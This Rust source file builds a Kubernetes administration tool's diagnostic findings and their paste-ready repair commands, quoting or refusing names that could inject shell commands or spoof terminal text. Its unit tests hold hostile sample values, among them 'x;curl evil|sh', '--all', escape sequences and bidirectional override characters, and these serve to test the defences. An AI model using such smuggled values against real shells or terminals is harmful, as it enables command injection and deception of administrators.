//! One thing that somebody should know, or do something about.

use std::fmt::Write as _;

use serde::Serialize;

use super::reason::Reason;
use crate::init::shell_word;
use crate::runtime::fleet::Cluster;

/// How bad it is.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Severity {
    /// Something does not work, or is not safe.
    #[default]
    Error,
    /// Something will not work, or is of no use any more.
    Warning,
    /// Good to know.
    Info,
}

/// What a finding is about.
#[derive(Debug, Clone, Default, PartialEq, Eq, PartialOrd, Ord, Serialize)]
pub struct Object {
    /// The workspace path, where there is one.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub path: Option<String>,
    /// The logical cluster; empty for what belongs to the whole installation.
    #[serde(skip_serializing_if = "String::is_empty")]
    pub cluster: String,
    /// Its kind.
    pub kind: String,
    /// Its namespace; empty for cluster-scoped objects.
    #[serde(skip_serializing_if = "String::is_empty")]
    pub namespace: String,
    /// Its name.
    pub name: String,
}

impl Object {
    /// One in a cluster.
    #[must_use]
    pub fn of(cluster: &Cluster, kind: &str, namespace: &str, name: &str) -> Self {
        let in_kcp = cluster.endpoint.only_cluster().is_none();
        Self {
            path: cluster.info.path.clone(),
            cluster: if in_kcp { cluster.id.to_string() } else { String::new() },
            kind: kind.to_owned(),
            namespace: namespace.to_owned(),
            name: name.to_owned(),
        }
    }

    /// One that belongs to the whole installation.
    #[must_use]
    pub fn installed(kind: &str, name: &str) -> Self {
        Self { kind: kind.to_owned(), name: name.to_owned(), ..Self::default() }
    }
}

/// A finding.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct Finding {
    /// How bad it is.
    pub severity: Severity,
    /// Why, as one word for programs; docs/doctor.md explains each.
    pub reason: String,
    /// What it is about.
    pub object: Object,
    /// Why, for people.
    pub message: String,
    /// The command that repairs it, for an admin; none where it takes more than a command.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub repair: Option<String>,
    /// The command deletes data that nothing brings back.
    #[serde(skip_serializing_if = "std::ops::Not::not")]
    pub destructive: bool,
}

impl Finding {
    /// One for which there is no command.
    #[must_use]
    pub fn new(
        severity: Severity,
        reason: Reason,
        object: Object,
        message: impl Into<String>,
    ) -> Self {
        let (reason, message) = (reason.as_str().to_owned(), message.into());
        Self { severity, reason, object, message, ..Self::default() }
    }

    /// The same with a command that repairs it.
    #[must_use]
    pub fn repaired_by(self, repair: Option<String>) -> Self {
        Self { repair, ..self }
    }

    /// The same with a command that ends it, and deletes data.
    #[must_use]
    pub fn ended_by(self, repair: Option<String>) -> Self {
        Self { destructive: repair.is_some(), repair, ..self }
    }
}

/// A command as it can be pasted into a shell, with these names of objects in it. None where a name could be taken for
/// something else: tenants choose names, and consumers some of them.
#[must_use]
pub(super) fn command(words: &[&str], names: &[&str]) -> Option<String> {
    let is_harmless = |name: &&str| !name.starts_with('-') && !name.chars().any(is_unseen);
    let quoted: Vec<String> = words.iter().map(|word| shell_word(word)).collect();
    names.iter().all(is_harmless).then(|| quoted.join(" "))
}

/// Whether a character has no place of its own on a line: it controls the terminal or the direction of the text, or is
/// not seen at all.
fn is_unseen(c: char) -> bool {
    c.is_control()
        || matches!(c,
            '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}')
}

/// Text that others wrote, on one line: nobody but us says what repairs something.
pub(super) fn line(text: &str) -> String {
    text.replace(is_unseen, " ")
}

/// The findings as paragraphs.
#[must_use]
pub(super) fn text(findings: &[Finding], clusters: usize) -> String {
    let mut text = String::new();
    for finding in findings {
        let severity = match finding.severity {
            Severity::Error => "error",
            Severity::Warning => "warning",
            Severity::Info => "info",
        };
        let Object { path, cluster, kind, namespace, name } = &finding.object;
        let place = path.as_deref().unwrap_or(cluster);
        let place = if place.is_empty() { String::new() } else { format!(" in {place}") };
        let slash = if namespace.is_empty() { "" } else { "/" };
        let _ = writeln!(
            text,
            "{severity} {}\n  {}",
            line(&format!("{}: {kind} {namespace}{slash}{name}{place}", finding.reason)),
            line(&finding.message)
        );
        if let Some(repair) = &finding.repair {
            let what = if finding.destructive { "to end it, with its data" } else { "to repair" };
            let _ = writeln!(text, "  {what}: {repair}");
        }
        text.push('\n');
    }
    let count = |severity| findings.iter().filter(|one| one.severity == severity).count();
    let _ = write!(
        text,
        "{clusters} served: {} errors, {} warnings, {} notes",
        count(Severity::Error),
        count(Severity::Warning),
        count(Severity::Info)
    );
    text
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_name_is_more_than_a_word_of_a_command() {
        let delete = |name| command(&["kubectl", "delete", "clusterrole", name], &[name]);
        for (name, expected) in [
            ("kube-binder", Some("kubectl delete clusterrole kube-binder")),
            ("x;curl evil|sh", Some("kubectl delete clusterrole 'x;curl evil|sh'")),
            ("it's", Some(r"kubectl delete clusterrole 'it'\''s'")),
            ("--all", None),
            ("a\nb", None),
            ("a\u{1b}[2K", None),
            ("gnp\u{202e}.exe", None),
            ("ad\u{200b}min", None),
        ] {
            assert_eq!(delete(name).as_deref(), expected, "{name:?}");
        }
    }

    #[test]
    fn what_others_wrote_stays_on_its_line() {
        let finding = Finding {
            severity: Severity::Error,
            reason: "Bad\nReason".into(),
            object: Object { kind: "Role".into(), name: "a\u{1b}b".into(), ..Object::default() },
            message: "it is\n  to repair: rm\u{202e}fr".into(),
            ..Finding::default()
        };
        let text = text(&[finding], 0);
        assert!(
            text.starts_with("error Bad Reason: Role a b\n  it is   to repair: rm fr\n\n"),
            "{text}"
        );
    }

    #[test]
    fn a_finding_is_a_paragraph_with_what_it_is_about_why_and_what_to_do() {
        let object = Object {
            path: Some("root:a".into()),
            cluster: "28rwq3skw0u9rkqq".into(),
            kind: "Role".into(),
            namespace: "ns".into(),
            name: "star".into(),
        };
        let finding =
            Finding::new(Severity::Warning, Reason::OrphanedRights, object, "its export is gone");
        let repaired = finding.clone().repaired_by(Some("kubectl delete role star".into()));
        let ended = finding.ended_by(Some("kubectl delete namespace ns".into()));
        assert_eq!(
            text(&[repaired, ended], 3),
            "warning OrphanedRights: Role ns/star in root:a\n  its export is gone\n  to repair: kubectl delete role star\n\n\
             warning OrphanedRights: Role ns/star in root:a\n  its export is gone\n  \
             to end it, with its data: kubectl delete namespace ns\n\n\
             3 served: 0 errors, 2 warnings, 0 notes"
        );
    }
}
